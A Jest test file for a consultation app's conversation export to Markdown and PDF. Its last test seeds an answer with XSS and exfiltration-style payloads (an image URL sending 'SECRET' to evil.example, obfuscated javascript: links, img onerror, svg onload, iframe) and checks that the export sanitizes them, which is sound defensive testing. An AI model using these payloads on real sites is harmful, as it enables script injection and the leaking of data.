import { afterAll, beforeEach, expect, test } from '@jest/globals';
import { marked } from 'marked';
import { extractText, getDocumentProxy } from 'unpdf';
import type { ErrorBody } from '../../contract/error-body.ts';
import type { Handover } from '../../contract/handover.ts';
import { createScriptedAnswerer, final } from '../../testing/scripted-answerer.ts';
import { startTestApi } from '../../testing/start-test-api.ts';
import { createVisitor, signedUp, type Visitor } from '../../testing/visitor.ts';

const answerer = createScriptedAnswerer(async function* ({ text }) {
  yield { kind: 'text', text: `# 结论\n\n关于${text}的回答[1]` };
  yield final;
});
let visitor: Visitor;

const api = await startTestApi({ answerer });
afterAll(() => api.end());
beforeEach(() => {
  visitor = createVisitor(api.url);
});

const ask = (text: string, more: object = {}) => visitor.ask(text, more);

function get(id: string, query = 'format=markdown', headers: Record<string, string> = {}) {
  return visitor.fetch('GET', `/api/conversations/${id}/export?${query}`, { headers });
}

test('Markdown has the records in order, with contact, citations and the names of files', async () => {
  const { conversationId } = await ask('怎样退款？\n<b>急*', { contact: '13800138000', contactName: '张三' });
  const form = new FormData();
  form.append('conversationId', conversationId);
  form.append('text', '第二个问题');
  form.append('file', new Blob(['# 发票\n\n抬头是公司。']), '发票_1.md');
  await visitor.fetch('POST', '/api/predict', { body: form });
  await visitor.call('PATCH', `/api/conversations/${conversationId}`, { title: '退款/发票 *' });

  const response = await get(conversationId, 'format=markdown&tz=Asia/Shanghai');

  expect(Object.fromEntries(response.headers)).toMatchObject({
    'content-type': 'text/markdown; charset=utf-8',
    'cache-control': 'no-store',
    'content-disposition':
      'attachment; filename="conversation.md"; ' +
      "filename*=UTF-8''%E9%80%80%E6%AC%BE_%E5%8F%91%E7%A5%A8%20_.md",
  });
  const text = await response.text();
  expect(text).toMatch(/^# 退款\/发票 \\\*\n\n导出于 \d{4}-\d\d-\d\d \d\d:\d\d \(Asia\/Shanghai\)\n/);
  expect(text).toMatch(/## 1\. \d{4}-\d\d-\d\d \d\d:\d\d · 张三 13800138000\n/);
  expect(text).toContain('> 怎样退款？  \n> \\<b\\>急\\*\n');
  expect(text).toContain('**回答**\n\n### 结论\n\n关于怎样退款？');
  expect(text).toContain('**引用**\n\n- \\[1\\] Handbook：「Say it.」\n');
  expect(text).toContain('附件: 发票\\_1.md\n');
  expect(text.indexOf('怎样退款？')).toBeLessThan(text.indexOf('第二个问题'));
});

test('PDF has the records in order, in the language of the request, without ratings', async () => {
  const { conversationId, recordId } = await ask('第一个问题', { contact: '13800138000' });
  await ask('第二个问题', { conversationId });
  await visitor.call('POST', '/api/feedback', { recordId, rating: -1, note: '不对' });

  const response = await get(conversationId, 'format=pdf');

  expect(response.status).toBe(200);
  expect(response.headers.get('Content-Type')).toBe('application/pdf');
  expect(response.headers.get('X-Pages')).toBe('1');
  const pdf = await getDocumentProxy(new Uint8Array(await response.arrayBuffer()));
  const text = (await extractText(pdf, { mergePages: true })).text.replaceAll(/\s+/g, '');
  expect(text).toContain('关于第一个问题的回答');
  expect(text).toContain('Handbook');
  expect(text.indexOf('关于第一个问题')).toBeLessThan(text.indexOf('关于第二个问题'));
  expect(text).not.toContain('不对');
  const english = await get(conversationId, 'format=pdf', { 'Accept-Language': 'en' });
  const translated = await getDocumentProxy(new Uint8Array(await english.arrayBuffer()));
  expect((await extractText(translated, { mergePages: true })).text).toContain('Exported');
});

test('exports 1,000 records as Markdown and PDF', async () => {
  const at = (index: number) => new Date(Date.UTC(2026, 0, 1) + index * 60_000).toISOString();
  const conversationId = 'c'.repeat(24);
  const records = Array.from({ length: 1000 }, (_, index) => ({
    id: (index + 1).toString(16).padStart(24, '0'),
    conversationId,
    contact: null,
    kind: 'chat',
    status: 'done',
    question: `问题 ${index}`,
    answer: `回答 ${index}`,
    citations: [],
    source: 'model',
    isImage: false,
    url: '',
    imgUrls: [],
    files: [],
    feedback: null,
    suggestions: [],
    createdAt: at(index),
    answeredAt: at(index),
  }));
  const archive = {
    format: 'consultation-desk-records',
    version: 1,
    exportedAt: at(0),
    conversations: [{ id: conversationId, title: '很长', createdAt: at(0) }],
    records,
  };
  expect((await visitor.call('POST', '/api/import', archive)).body).toMatchObject({ imported: 1000 });

  const markdown = await (await get(conversationId)).text();
  const asked = [...markdown.matchAll(/^> 问题 (\d+)$/gm)].map(([, index]) => Number(index));
  expect(asked).toEqual(records.map((_, index) => index));
  const pdf = await get(conversationId, 'format=pdf');
  expect(pdf.status).toBe(200);
  expect(Number(pdf.headers.get('X-Pages'))).toBeGreaterThan(50);
  await pdf.arrayBuffer();
});

test('leaves out deleted records, and a deleted conversation is 404', async () => {
  const { conversationId, recordId } = await ask('删除的问题');
  await ask('保留的问题', { conversationId });
  await visitor.call('POST', '/api/delete_by_ids', { ids: [recordId] });
  const text = await (await get(conversationId)).text();
  expect(text).toContain('保留的问题');
  expect(text).not.toContain('删除的问题');
  await visitor.call('DELETE', `/api/conversations/${conversationId}`);
  expect((await get(conversationId)).status).toBe(404);
});

test('strangers get 404, and other formats or time zones 400', async () => {
  const { conversationId } = await ask('一个问题');
  for (const [query, field] of [
    ['', 'format'],
    ['format=html', 'format'],
    ['format=pdf&tz=Nowhere', 'tz'],
  ] as const) {
    const { status, body } = await visitor.call<ErrorBody>(
      'GET',
      `/api/conversations/${conversationId}/export?${query}`,
    );
    expect([status, body.field]).toEqual([400, field]);
  }
  visitor = createVisitor(api.url);
  for (const format of ['markdown', 'pdf'])
    expect((await get(conversationId, `format=${format}`)).status).toBe(404);
  expect((await get('nonsense')).status).toBe(404);
});

test('marks the later versions of a question', async () => {
  const { conversationId, recordId } = await ask('第一版问题');
  await ask('第二版问题', { conversationId, versionOf: recordId });
  const text = await (await get(conversationId)).text();
  expect(text).toMatch(/## 2\. [^\n]* · 第 2 版\n/);
});

test('contains the messages with people', async () => {
  const editor = await signedUp(api.url, 'agent', 'a long password');
  const { conversationId } = await ask('问题');
  const request = { conversationId, question: '请帮我查一下', clientId: 'h1' };
  const { body: handover } = await visitor.call<Handover>('POST', '/api/handovers', request);
  await editor.call('POST', `/api/inbox/${handover.id}/messages`, { text: '已经发货 *1*', clientId: 'm1' });

  const markdown = await (await get(conversationId)).text();
  expect(markdown).toMatch(
    /## 人工咨询 · [\d: -]+\n\n> 请帮我查一下\n\n\*\*agent\*\* · [\d: -]+\n\n> 已经发货 \\\*1\\\*\n$/,
  );
  const pdf = await getDocumentProxy(
    new Uint8Array(await (await get(conversationId, 'format=pdf')).arrayBuffer()),
  );
  const text = (await extractText(pdf, { mergePages: true })).text.replaceAll(/\s+/g, '');
  expect(text.indexOf('已经发货*1*')).toBeGreaterThan(text.indexOf('请帮我查一下'));
});

test('Markdown of an answer has no pictures, no HTML and no links that are more than an address', async () => {
  const answer = [
    'See ![pic](https://evil.example/leak?q=SECRET) and ![t][r], [click](javascript:alert(1)), [d](data:text/html,x),',
    '[e](java&Tab;script:alert), [f](javascript&#58;alert(1)), [g](<javascript:alert(1)>), [h](\njavascript:alert(1)), [i][r],',
    '\\\\![double](https://evil.example), [![in](https://evil.example/i.png)](https://a.example),',
    '<img src=x onerror=alert(1)> <script>alert(1)</script> <https://evil.example/auto> a < b [ok](https://ok.example) `<b>` [1]',
    '',
    '[r]: https://evil.example/r "t"',
    '',
    '<div>',
    '```',
    '</div>',
    '',
    '```html',
    '<iframe src=javascript:alert(1)>',
    '```',
    '',
    '> ![quoted](https://evil.example/q)',
    '',
    '- ```',
    '  ![item](https://evil.example/l)',
    '  ```',
    '- ![item](https://evil.example/m)',
    '',
    '| ![cell](https://evil.example/c) | <svg/onload=alert(1)> |',
    '|---|---|',
    '| x | [y](vbscript:x) |',
    '',
    '```',
    '![open](https://evil.example/open)',
  ].join('\n');
  answerer.script = async function* () {
    yield { kind: 'text', text: answer };
    yield final;
  };
  const { conversationId } = await ask('one');
  const text = await (await get(conversationId, 'format=markdown&tz=UTC')).text();

  const live: string[] = [];
  void marked.walkTokens(marked.lexer(text), (token) => {
    if (token.type === 'image' || token.type === 'html') live.push(token.raw);
    if (token.type === 'link' && !/^https:/.test(token.href)) live.push(token.raw);
  });
  expect(live).toEqual([]);
  expect(text).toContain('[ok](https://ok.example) `<b>` [1]');
  expect(text).toContain('Handbook');
  expect(marked.lexer(text).at(-1)?.type).not.toBe('code');
});
